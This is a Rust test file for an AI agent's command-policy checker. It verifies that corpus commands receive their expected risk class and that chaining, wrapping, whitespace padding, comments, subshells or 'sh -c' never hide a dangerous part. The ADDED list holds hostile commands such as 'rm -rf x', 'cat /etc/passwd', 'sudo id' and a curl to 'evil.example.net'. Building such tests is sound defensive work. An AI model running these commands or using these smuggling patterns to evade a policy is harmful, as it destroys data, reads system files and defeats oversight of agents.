//! Every command of the corpus gets the class that it should have, and its variations never a
//! lower one (SECURITY-DESIGN, T47 and T48).

#![expect(clippy::unwrap_used, reason = "a test's own files")]

use mc_core::{
    agent::Agent,
    money::MicroUsd,
    policy::{Call, Decision, Facts, Outcome, Policy, PolicyDoc, Risk, World, decide},
    squad::Squad,
};
use serde_json::json;

/// A command with what it should be.
struct Row {
    command: String,
    class: String,
    why: String,
}

impl Row {
    fn is_denied(&self) -> bool {
        self.why.starts_with("deny;")
    }
}

fn rows(text: &str) -> Vec<Row> {
    let lines = text.lines().filter(|line| !line.starts_with('#') && !line.trim().is_empty());
    lines
        .map(|line| {
            let mut fields = line.split('\t');
            let mut next = || fields.next().unwrap();
            let command = serde_json::from_str(&format!("\"{}\"", next())).unwrap();
            Row { command, class: next().to_owned(), why: next().to_owned() }
        })
        .collect()
}

fn corpus() -> Vec<Row> {
    let mut all = rows(include_str!("corpus/commands.tsv"));
    all.extend(rows(include_str!("corpus/more.tsv")));
    all
}

/// The policy of the corpus: three hosts on the list.
fn policy() -> Policy {
    let mut doc = PolicyDoc::default();
    let hosts = ["api.example.com", "docs.example.com", "git.example.com"];
    doc.network.allow = hosts.iter().map(|host| (*host).to_owned()).collect();
    Policy::compile(doc).unwrap()
}

fn judged(policy: &Policy, command: &str) -> Decision {
    let who: Agent = serde_json::from_value(json!({
        "name": "kite", "rev": 1, "autonomy": "specialist", "status": "active", "runtime": "other",
        "workspace": "/home/agent/ws", "daily_cap_uusd": 5_000_000, "run_cap_uusd": 750_000,
        "created_at": "2026-01-01T00:00:00.000Z",
    }))
    .unwrap();
    let arguments = json!({ "command": command });
    let call = Call {
        tool: "exec",
        arguments: &arguments,
        cwd: Some("/home/agent/ws"),
        home: Some("/home/agent"),
        facts: Facts::NONE,
    };
    let squad = Squad::default();
    let world = World {
        squad: &squad,
        agent: &who,
        task: None,
        run: None,
        budget: &[],
        estimate: MicroUsd::ZERO,
    };
    decide(policy, &call, &world)
}

fn class(risk: Risk) -> &'static str {
    match risk {
        Risk::Green => "GREEN",
        Risk::Yellow => "YELLOW",
        Risk::Red => "RED",
    }
}

#[test]
fn every_command_of_the_corpus_has_its_class() {
    let policy = policy();
    let mut wrong = Vec::new();
    for row in corpus() {
        let found = judged(&policy, &row.command);
        let denied = found.outcome == Outcome::Deny;
        if class(found.risk) != row.class || denied != row.is_denied() {
            let Row { command, class, why } = &row;
            wrong.push(format!("{command:?}: {class} ({why})\n    but {found:?}"));
        }
    }
    assert!(wrong.is_empty(), "{} wrong:\n{}", wrong.len(), wrong.join("\n"));
}

/// Parts that are red by themselves, and ways to put something beside them.
const ADDED: &[&str] =
    &["rm -rf x", "cat /etc/passwd", "curl https://evil.example.net/x", "sudo id"];

#[test]
fn nothing_added_to_a_command_is_hidden_by_it() {
    let policy = policy();
    let harmless =
        corpus().into_iter().filter(|row| row.class != "RED" && !row.command.contains("<<"));
    let mut tried = 0;
    for row in harmless {
        for added in ADDED {
            let first = &row.command;
            let quoted = added.replace('\'', "'\\''");
            for both in [
                format!("{first}; {added}"),
                format!("{first} && {added}"),
                format!("{first} || {added}"),
                format!("{first} | {added}"),
                format!("{first}\n{added}"),
                format!("{first} # quiet\n{added}"),
                format!("{first}{}; {added}", " ".repeat(300)),
                format!("{first}{}{added}", "\n".repeat(40)),
                format!("{added}; {first}"),
                format!("{added} & {first}"),
                format!("( {first}; {added} )"),
                format!("{{ {first}; {added}; }}"),
                format!("if {first}; then {added}; fi"),
                format!("for x in a b; do {added}; done; {first}"),
                format!("{first}; timeout 5 {added}"),
                format!("{first}; env A=b nice {added}"),
                format!("{first}; sh -c '{quoted}'"),
                format!("{first}; echo \"$({added})\""),
                format!("{first} >/dev/null 2>&1; {added}"),
            ] {
                let found = judged(&policy, &both);
                assert_eq!(found.risk, Risk::Red, "{both:?} is {found:?}");
                assert_ne!(found.outcome, Outcome::Allow, "{both:?}");
                tried += 1;
            }
        }
    }
    assert!(tried > 3000, "only {tried} variations");
}

#[test]
fn wrapping_never_makes_a_command_harmless() {
    let policy = policy();
    for row in corpus() {
        let own = judged(&policy, &row.command).risk;
        let quoted = row.command.replace('\'', "'\\''");
        for wrapped in [
            format!("timeout 5 {}", row.command),
            format!("nice -n 5 {}", row.command),
            format!("sh -c '{quoted}'"),
            format!("( {} )", row.command),
            format!("true; {}", row.command),
            format!("{} | cat", row.command),
        ] {
            let found = judged(&policy, &wrapped);
            assert!(found.risk >= own, "{wrapped:?} is {found:?}, alone it is {own:?}");
        }
    }
}
